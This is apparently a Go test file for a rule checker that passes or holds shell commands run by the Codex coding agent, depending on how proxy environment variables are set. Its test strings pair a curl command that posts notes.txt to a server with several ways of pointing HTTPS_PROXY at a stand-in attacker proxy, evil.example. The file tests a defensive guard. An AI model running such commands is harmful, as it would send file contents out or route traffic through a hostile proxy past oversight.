package rules_test

import "testing"

// TestProxyCallerCopy: Codex's shell snapshot (codex 0.169) keeps each
// proxy variable of the caller's environment in a variable of its own,
// set once, first, to exactly that value, and puts it back from there:
//
//	__CODEX_SNAPSHOT_PROXY_OVERRIDE_18="${HTTPS_PROXY-}"
//	export HTTPS_PROXY="${__CODEX_SNAPSHOT_PROXY_OVERRIDE_18}"
//
// Such a copy is still the caller's value, and every command Codex ran
// was held while it was not (TestCodex/shell_route). A copy the script
// sets again, appends to, reads into, sets in a subshell or branch, or
// gives a default of its own is the command's choice and stays held. So
// is export NAME alone: it passes on the caller's value unless the script
// set NAME first.
func TestProxyCallerCopy(t *testing.T) {
	const (
		post = `; curl -d @notes.txt http://127.0.0.1:8000/`
		keep = `S="${HTTPS_PROXY+x}"; O="${HTTPS_PROXY-}"; `
		back = `if [ -n "$S" ]; then export HTTPS_PROXY="${O}"; else unset HTTPS_PROXY; fi`
	)
	checkTiersIn(t, "/home/dev/code/app", "/home/dev", nil, []tierCase{
		{"caller-copy", keep + back + post, "pass"},
		{"caller-copy", `O="${HTTPS_PROXY:-}"; export HTTPS_PROXY="$O"` + post, "pass"},
		{"caller-copy", `O=$ALL_PROXY; export ALL_PROXY=$O` + post, "pass"},
		{"caller-copy", `O="${HTTPS_PROXY-}"; P="$O"; export http_proxy="$P"` + post, "pass"},
		{"caller-reexport", `export HTTPS_PROXY` + post, "pass"},
		{"caller-reexport", `if [ -z "${HTTPS_PROXY+x}" ]; then export HTTPS_PROXY="$O"; else export HTTPS_PROXY; fi` + post, "pass"},

		{"copy-set-again", keep + `O=http://evil.example:8080; ` + back + post, "held"},
		{"copy-set-before", `O=http://evil.example:8080; O="${HTTPS_PROXY-}"; export HTTPS_PROXY="$O"` + post, "held"},
		{"copy-appended", keep + `O+=evil.example:8080; ` + back + post, "held"},
		{"copy-read", keep + `read O < proxy.txt; ` + back + post, "held"},
		{"copy-printf", keep + `printf -v O 'http://evil.example:%d' 8080; ` + back + post, "held"},
		{"copy-subshell", keep + `(O=http://evil.example:8080); ` + back + post, "held"},
		{"copy-branch", `if true; then O="${HTTPS_PROXY-}"; else O=http://evil.example:8080; fi; export HTTPS_PROXY="$O"` + post, "held"},
		{"copy-default", `O="${HTTPS_PROXY:-http://evil.example:8080}"; export HTTPS_PROXY="$O"` + post, "held"},
		{"copy-of-set", `P=http://evil.example:8080; O="${P-}"; export HTTPS_PROXY="$O"` + post, "held"},
		{"reexport-set", `HTTPS_PROXY=http://evil.example:8080; export HTTPS_PROXY` + post, "held"},
		{"reexport-read", `read HTTPS_PROXY < proxy.txt; export HTTPS_PROXY` + post, "held"},
		{"reexport-computed", `HTTPS_PROXY=$(cat proxy.txt); export HTTPS_PROXY` + post, "held"},
		{"reexport-declare", `declare HTTPS_PROXY=http://evil.example:8080; export HTTPS_PROXY` + post, "held"},
		{"copy-substitution", `O="$(cat proxy.txt)"; export HTTPS_PROXY="$O"` + post, "held"},
	})
}
